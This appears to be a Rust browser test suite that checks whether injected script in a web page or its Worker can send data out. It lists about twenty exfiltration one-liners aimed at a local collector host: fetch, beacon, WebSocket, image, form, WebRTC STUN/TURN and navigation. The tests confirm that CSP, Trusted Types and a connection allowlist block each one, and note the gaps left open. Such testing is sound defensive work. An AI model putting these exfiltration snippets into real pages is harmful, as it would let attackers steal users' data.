//! Script that got in cannot carry anything out: row 82.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, Result};
use axum::http::{HeaderValue, StatusCode};
use e2e::browser::{Browser, Chromium, Kind};
use e2e::devtools::DevTools;
use e2e::proxy::{Answer, Asked, Proxy, Seen, Tamper, without};
use e2e::server::Server;
use e2e::sink::Sink;
use e2e::wait::{until, within};
use serde_json::{Value, json};

use crate::altered::{Rebuilt, altered, is_page, without_policy, without_protection};

/// Takes what it is given, and permits everything that a server can permit.
struct Collector;

impl Tamper for Collector {
    fn request(&self, asked: &mut Asked) -> Option<Answer> {
        let kind = if asked.path.contains("event") { "text/event-stream" } else { "text/html" };
        let mut answer = Answer::own(StatusCode::OK, kind, "");
        for (name, value) in [
            ("access-control-allow-origin", "*"),
            ("access-control-allow-headers", "*"),
            ("cross-origin-resource-policy", "cross-origin"),
            ("cross-origin-embedder-policy", "require-corp"),
        ] {
            answer.headers.insert(name, HeaderValue::from_static(value));
        }
        Some(answer)
    }
}

/// What stops a way out on the real page.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Stop {
    /// The policy, by this directive, which reports the address.
    Policy(&'static str),
    /// Trusted Types, at this sink: the string never becomes a script or its address.
    Types(&'static str),
    /// The policy, which does not report it.
    Mute,
    /// The list of connections alone: no policy covers it, and nothing is reported.
    List,
}

use Stop::{List, Mute, Policy, Types};

/// A name, what stops it, and a script.
pub(crate) type Way = (&'static str, Stop, &'static str);

in_both!(
    t082_the_page_can_carry_nothing_out,
    t082_nor_can_the_page_of_the_phone,
    t082_nor_can_the_page_of_the_watch,
    t082_nor_can_the_page_of_the_agents,
    t082_nor_can_the_worker,
    t082_leaving_is_not_stopped_in_every_case,
);

/// Every way out that a page has, short of leaving, each with its own path at the collector `C`, or a port of its own.
const OF_PAGE: &[Way] = &[
    // First, since Chromium begins it later, and not once another window hides the page.
    (
        "speculation",
        Types("HTMLScriptElement textContent"),
        "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [C + '/speculation'] }] }) })",
    ),
    ("fetch", Policy("connect-src"), "await fetch(C + '/fetch', { mode: 'no-cors' })"),
    ("post", Policy("connect-src"), "await fetch(C + '/post', { method: 'POST', body: 'x', mode: 'no-cors' })"),
    ("xhr", Policy("connect-src"), "const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send()"),
    ("socket", Policy("connect-src"), "new WebSocket(C.replace('http', 'ws') + '/socket')"),
    ("event", Policy("connect-src"), "new EventSource(C + '/event')"),
    ("beacon", Policy("connect-src"), "navigator.sendBeacon(C + '/beacon', 'x')"),
    ("ping", Policy("connect-src"), "add('a', { href: '#', ping: C + '/ping' }).click()"),
    ("quic", Policy("connect-src"), "new WebTransport(`https://${QUIC}/quic`)"),
    ("image", Policy("img-src"), "new Image().src = C + '/image'"),
    ("style", Policy("img-src"), "document.body.style.backgroundImage = `url(${C}/style)`"),
    ("sheet", Policy("style-src-elem"), "add('link', { rel: 'stylesheet', href: C + '/sheet' })"),
    ("font", Policy("font-src"), "await new FontFace('f', `url(${C}/font)`).load()"),
    ("frame", Policy("frame-src"), "add('iframe', { src: C + '/frame' })"),
    ("script", Types("HTMLScriptElement src"), "add('script', { src: C + '/script' })"),
    // A name of its own: one that a page within this one has as well would lead there.
    (
        "form",
        Policy("form-action"),
        "const f = add('form', { action: C + '/form', method: 'post', target: add('iframe', { name: `sink-${Math.random()}` }).name }); f.submit()",
    ),
    // Once more after a while: Firefox drops what waits when anything is loaded meanwhile.
    (
        "prefetch",
        Policy("default-src"),
        "const ahead = () => add('link', { rel: 'prefetch', href: C + '/prefetch' }); ahead(); setInterval(ahead, 5000)",
    ),
    ("preload", Policy("img-src"), "add('link', { rel: 'preload', as: 'image', href: C + '/preload' })"),
    ("media", Policy("media-src"), "add('video', { src: C + '/media' }).load()"),
    ("object", Types("HTMLObjectElement data"), "add('object', { data: C + '/object' })"),
    ("stun", List, "await call({ urls: `stun:${STUN}` })"),
    ("turn", List, "await call({ urls: `turn:${TURN}?transport=tcp`, username: 'x', credential: 'x' })"),
    ("open", List, "open(C + '/open')"),
];

/// The same from inside the Worker.
const OF_WORKER: &[Way] = &[
    ("fetch", Policy("connect-src"), "await fetch(C + '/fetch', { mode: 'no-cors' })"),
    ("post", Policy("connect-src"), "await fetch(C + '/post', { method: 'POST', body: 'x', mode: 'no-cors' })"),
    ("xhr", Policy("connect-src"), "const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send()"),
    ("socket", Policy("connect-src"), "new WebSocket(C.replace('http', 'ws') + '/socket')"),
    ("event", Policy("connect-src"), "new EventSource(C + '/event')"),
    ("quic", Policy("connect-src"), "new WebTransport(`https://${QUIC}/quic`)"),
    ("script", Types("WorkerGlobalScope importScripts"), "importScripts(C + '/script')"),
    ("font", Policy("font-src"), "await new FontFace('f', `url(${C}/font)`).load()"),
];

/// Somebody who listens outside, for everything.
pub(crate) struct Outside {
    web: Proxy,
    quic: Sink,
    stun: Sink,
    turn: Sink,
}

impl Outside {
    pub(crate) async fn new() -> Result<Self> {
        let web = Proxy::start(0, "http://127.0.0.1:1", Arc::new(Collector)).await?;
        Ok(Self { web, quic: Sink::udp().await?, stun: Sink::udp().await?, turn: Sink::tcp().await? })
    }

    /// The addresses of everybody who listens, for a script.
    fn addresses(&self) -> String {
        format!(
            "const C = {}, QUIC = {}, STUN = {}, TURN = {};",
            json!(self.web.url()),
            json!(self.quic.address()),
            json!(self.stun.address()),
            json!(self.turn.address()),
        )
    }

    /// A script that tries one way out, in a timer, because what a driver runs is bound less. Whatever is thrown is a way
    /// out that is shut.
    pub(crate) fn attempt(&self, script: &str) -> String {
        let addresses = self.addresses();
        format!(
            "setTimeout(async () => {{ {addresses} \
             const add = (tag, set) => {{ const e = Object.assign(document.createElement(tag), set); document.body.append(e); return e }}; \
             const call = async server => {{ const p = new RTCPeerConnection({{ iceServers: [server] }}); (self.calls ??= []).push(p); \
               p.createDataChannel('out'); await p.setLocalDescription(await p.createOffer()) }}; \
             try {{ {script} }} catch {{}} done(true) }})"
        )
    }

    /// The page's Worker with script that got in: the page asks it, by a channel, to try one of the ways. What is
    /// shut does not end it.
    fn invaded(&self) -> Result<Rebuilt> {
        let ways = OF_WORKER.iter().map(|(name, _, script)| format!("{name}: async () => {{ {script} }},"));
        let (ways, addresses): (String, _) = (ways.collect(), self.addresses());
        let script = format!(
            "\n{{ self.onunhandledrejection = null; {addresses} {WATCH}; const ways = {{ {ways} }}; const page = new BroadcastChannel('ways'); \
             page.onmessage = async ({{ data }}) => {{ try {{ await ways[data]?.() }} catch {{}} page.postMessage(self.violations) }} }}"
        );
        Rebuilt::new("worker-", |worker| [worker, script.into_bytes()].concat())
    }

    /// Names of the ways by which something came.
    fn arrived(&self) -> BTreeSet<String> {
        let seen = self.web.seen().into_iter();
        let paths = seen.filter_map(|each| match each {
            Seen::Http(asked, _) => Some(asked.path),
            Seen::Opened(_, path) => Some(path),
            Seen::ToServer(..) | Seen::ToEnd(..) => None,
        });
        let mut arrived: BTreeSet<String> = paths.map(|path| path.trim_start_matches('/').to_owned()).collect();
        arrived.remove("favicon.ico");
        for (name, sink) in [("quic", &self.quic), ("stun", &self.stun), ("turn", &self.turn)] {
            if sink.arrived() > 0 {
                arrived.insert(name.to_owned());
            }
        }
        arrived
    }

    /// Waits until exactly these have come.
    async fn gets(&self, expected: &BTreeSet<String>) -> Result<()> {
        until("everything arrives", async || (self.arrived() == *expected).then_some(())).await.with_context(|| {
            let arrived = self.arrived();
            let missing: Vec<&String> = expected.difference(&arrived).collect();
            let surplus: Vec<&String> = arrived.difference(expected).collect();
            format!("missing: {missing:?}, surplus: {surplus:?}")
        })
    }

    /// Waits for what comes late, and says whether nothing came but these.
    pub(crate) async fn gets_only(&self, expected: &BTreeSet<String>) -> Result<()> {
        self.gets(expected).await?;
        let more = within(Duration::from_secs(2), "", async || (self.arrived() != *expected).then_some(())).await;
        anyhow::ensure!(more.is_err(), "{:?} arrived, and not only {expected:?}", self.arrived());
        Ok(())
    }
}

pub(crate) const WATCH: &str = "self.violations = []; addEventListener('securitypolicyviolation', \
    e => violations.push([e.effectiveDirective, e.blockedURI, e.sample]))";

/// What stops a way out of a page in Firefox, where that is something else; `None` is a way that it does not have.
const OF_PAGE_IN_FIREFOX: &[(&str, Option<Stop>)] =
    &[("preload", Some(Mute)), ("object", Some(Policy("object-src"))), ("speculation", None)];

/// The same of a Worker.
const OF_WORKER_IN_FIREFOX: &[(&str, Option<Stop>)] =
    &[("event", Some(Mute)), ("quic", Some(Mute)), ("font", Some(Mute))];

/// The ways out that this browser has, with what stops each there.
pub(crate) fn of_page(kind: Kind) -> Vec<Way> {
    match kind {
        Kind::Chromium => OF_PAGE.to_vec(),
        Kind::Firefox => otherwise(OF_PAGE, OF_PAGE_IN_FIREFOX),
    }
}

fn of_worker(kind: Kind) -> Vec<Way> {
    match kind {
        Kind::Chromium => OF_WORKER.to_vec(),
        Kind::Firefox => otherwise(OF_WORKER, OF_WORKER_IN_FIREFOX),
    }
}

fn otherwise(ways: &[Way], other: &[(&str, Option<Stop>)]) -> Vec<Way> {
    let in_it = |&(name, stop, script): &Way| {
        let found = other.iter().find(|(each, _)| *each == name);
        Some((name, found.map_or(Some(stop), |(_, stop)| *stop)?, script))
    };
    ways.iter().filter_map(in_it).collect()
}

pub(crate) async fn try_page(browser: &Browser, outside: &Outside) -> Result<Vec<Value>> {
    browser.run(WATCH).await?;
    for (name, _, script) in of_page(browser.kind()) {
        browser.run_async(&outside.attempt(script)).await.context(name)?;
    }
    // A window may have come up before it, and behind another one a page's timers are slow.
    browser.driver.switch_to_window(browser.driver.window().await?).await?;
    browser.run("return violations").await?.as_array().cloned().context("violations")
}

/// Asks the Worker to try one way after the other; the name of none makes it tell what was shut.
async fn try_worker(browser: &Browser) -> Result<Vec<Value>> {
    let mut violations = Value::Null;
    for name in OF_WORKER.iter().map(|(name, ..)| *name).chain(["none"]) {
        let script = format!(
            "const c = new BroadcastChannel('ways'); c.onmessage = ({{ data }}) => {{ c.close(); done(data) }}; c.postMessage({})",
            json!(name)
        );
        violations = browser.run_async(&script).await.context(name)?;
    }
    violations.as_array().cloned().context("violations")
}

pub(crate) fn names(ways: &[Way], keep: impl Fn(Stop) -> bool) -> BTreeSet<String> {
    ways.iter().filter(|(_, stop, _)| keep(*stop)).map(|(name, ..)| (*name).to_owned()).collect()
}

/// Each way was shut by what the table says: the browser reported it.
pub(crate) fn reported(ways: &[Way], violations: &[Value]) {
    let text = |each: &Value, at: usize| each[at].as_str().unwrap_or_default().to_owned();
    for (name, stop, _) in ways {
        let fits = |each: &&Value| match stop {
            // Of these the browser tells the origin alone.
            Policy(directive @ ("frame-src" | "object-src")) => text(each, 0) == *directive,
            Policy(directive) => text(each, 0) == *directive && text(each, 1).ends_with(&format!("/{name}")),
            Types(sink) => text(each, 0) == "require-trusted-types-for" && text(each, 2).starts_with(sink),
            Mute | List => true,
        };
        assert!(violations.iter().any(|each| fits(&each)), "{name} by {stop:?}: {violations:#?}");
    }
}

/// The real page with one of its two walls, both or none.
async fn walled(server: &Server, policy: bool, list: bool) -> Result<Proxy> {
    walled_with(server, policy, list, None).await
}

/// The same, with a Worker that somebody else made.
async fn walled_with(server: &Server, policy: bool, list: bool, worker: Option<Rebuilt>) -> Result<Proxy> {
    altered(server, move |asked, mut answer| {
        if is_page(asked) {
            match (policy, list) {
                (false, false) => without_protection(&mut answer),
                (false, true) => without_policy(&mut answer),
                (true, _) => {}
            }
            if !list {
                without(&mut answer, "connection-allowlist");
            }
        }
        if let Some(worker) = &worker {
            worker.put(asked, &mut answer);
        }
        Some(answer)
    })
    .await
}

async fn begin(kind: Kind) -> Result<(Server, Browser)> {
    tokio::try_join!(Server::start(), Browser::unguarded(kind))
}

/// The four pages: with or without the policy, with or without the list of connections; and whether each holds. Firefox does
/// not know the list.
fn walls(kind: Kind) -> impl Iterator<Item = (bool, bool, bool)> {
    let pages = [(false, false), (true, false), (false, true), (true, true)];
    pages.into_iter().map(move |(policy, list)| (policy, list, list && kind == Kind::Chromium))
}

async fn t082_the_page_can_carry_nothing_out(kind: Kind) -> Result<()> {
    page_carries_nothing_out(kind, "", "enter").await
}

async fn t082_nor_can_the_page_of_the_phone(kind: Kind) -> Result<()> {
    page_carries_nothing_out(kind, "/device", "start").await
}

async fn t082_nor_can_the_page_of_the_watch(kind: Kind) -> Result<()> {
    page_carries_nothing_out(kind, "/watch", "start").await
}

async fn t082_nor_can_the_page_of_the_agents(kind: Kind) -> Result<()> {
    page_carries_nothing_out(kind, "/agent", "agent").await
}

async fn page_carries_nothing_out(kind: Kind, path: &str, first: &str) -> Result<()> {
    let (server, browser) = begin(kind).await?;
    for (policy, list, holds) in walls(kind) {
        // Control: without protection every way is open, and each is seen outside. The policy alone stops all but some, and
        // the threat model says so; the list alone stops all of it.
        let arrives = names(&of_page(kind), |stop| !holds && (!policy || stop == List));
        let page = walled(&server, policy, list).await?;
        let outside = Outside::new().await?;
        browser.go(&format!("{}{path}", page.url())).await?;
        browser.screen(first).await?;
        let violations = try_page(&browser, &outside).await?;
        outside.gets_only(&arrives).await.with_context(|| format!("policy {policy}, list {list}"))?;
        if policy {
            reported(&of_page(kind), &violations);
        }
        // The page is still there and answers.
        browser.screen(first).await?;
    }
    Ok(())
}

async fn t082_nor_can_the_worker(kind: Kind) -> Result<()> {
    let (server, browser) = begin(kind).await?;
    for (policy, list, holds) in walls(kind) {
        let arrives = names(&of_worker(kind), |_| !policy && !holds);
        let outside = Outside::new().await?;
        let worker = outside.invaded()?;
        let page = walled_with(&server, policy, list, Some(worker)).await?;
        browser.go(&page.url()).await?;
        browser.screen("enter").await?;
        let violations = try_worker(&browser).await?;
        outside.gets_only(&arrives).await.with_context(|| format!("policy {policy}, list {list}"))?;
        if policy {
            reported(&of_worker(kind), &violations);
        }
    }
    Ok(())
}

async fn t082_leaving_is_not_stopped_in_every_case(kind: Kind) -> Result<()> {
    let server = Server::start().await?;
    match kind {
        Kind::Chromium => {
            let browser = Chromium::start().await?;
            for (list, by_driver, leaves) in [
                // Control: without the list, script leaves when it likes.
                (false, false, true),
                (true, false, false),
                // Not stopped, and the threat model says so: the same line, run by WebDriver.
                (true, true, true),
            ] {
                let tools = if by_driver { None } else { Some(browser.devtools().await?) };
                leaving(&server, &browser, list, tools, leaves).await?;
            }
            Ok(())
        }
        // It does not know the list: script leaves when it likes.
        Kind::Firefox => leaving(&server, &Browser::start(kind).await?, true, None, true).await,
    }
}

/// Script takes the page to another address, run by WebDriver or, where they are there, by DevTools.
async fn leaving(server: &Server, browser: &Browser, list: bool, tools: Option<DevTools>, leaves: bool) -> Result<()> {
    let page = walled(server, true, list).await?;
    let outside = Outside::new().await?;
    browser.go(&page.url()).await?;
    browser.screen("enter").await?;
    let leave = outside.attempt("location.href = C + '/leave'");
    let by = if tools.is_some() { "DevTools" } else { "WebDriver" };
    match tools {
        None => {
            browser.run_async(&leave).await?;
        }
        Some(mut tools) => {
            let session = tools.page().await?;
            // What WebDriver ran counts as a person's touch, for some seconds.
            let mut active = json!(true);
            while active == json!(true) {
                active = tools.evaluate(&session, "navigator.userActivation.isActive").await?;
            }
            tools.evaluate(&session, &format!("{{ const done = () => 0; {leave} }} 0")).await?;
        }
    }
    let expected = if leaves { BTreeSet::from(["leave".to_owned()]) } else { BTreeSet::new() };
    outside.gets_only(&expected).await.with_context(|| format!("list {list}, by {by}"))
}
